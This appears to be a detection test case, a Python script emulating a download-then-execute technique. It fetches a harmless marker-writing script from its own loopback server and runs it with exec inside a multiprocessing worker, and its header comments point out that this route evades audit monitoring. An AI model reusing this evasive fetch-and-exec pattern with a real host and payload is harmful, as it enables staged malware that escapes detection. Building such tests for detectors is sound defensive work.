# technique: T1059.006 T1105
# gap: the downloaded text reaches the worker through a multiprocessing pipe (os.read), which no audit event and no content observer covers; the worker's compile of it is text of unknown origin
"""Parent downloads, a multiprocessing worker execs it (T1059.006, T1105).

The stage is fetched in the parent and passed as an argument to a
multiprocessing "spawn" worker (a fresh audited interpreter started
through multiprocessing's own launcher), which calls exec on it. The
source travels pickled through a pipe, not on a command line or in a file.

A good detector raises a high alert: code received from the network by one
process runs in another.
"""
import http.server
import multiprocessing
import threading
import urllib.request

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server


def worker(text):
    exec(text, {"__name__": "job"})


if __name__ == "__main__":
    base, server = serve({"/task": b"import os\nmarker = os.path.join(os.path.expanduser('~'), '.stage2')\nwith open(marker, 'w') as f:\n    f.write(str(os.getpid()))\nprint('stage two ran in', os.getpid())\n"})
    source = urllib.request.urlopen(base + "/task", timeout=5).read().decode()
    server.shutdown()
    ctx = multiprocessing.get_context("spawn")
    proc = ctx.Process(target=worker, args=(source,))
    proc.start()
    proc.join(5)
    if proc.is_alive():
        proc.kill()
